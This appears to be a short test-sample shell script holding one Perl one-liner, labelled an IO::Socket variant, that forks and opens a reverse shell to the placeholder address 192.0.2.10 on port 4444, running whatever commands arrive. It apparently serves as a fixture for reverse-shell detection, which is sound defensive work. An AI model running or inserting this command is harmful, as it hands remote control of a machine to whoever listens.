#!/bin/sh
# test sample: IO::Socket variant
perl -MIO -e '$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"192.0.2.10:4444");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'
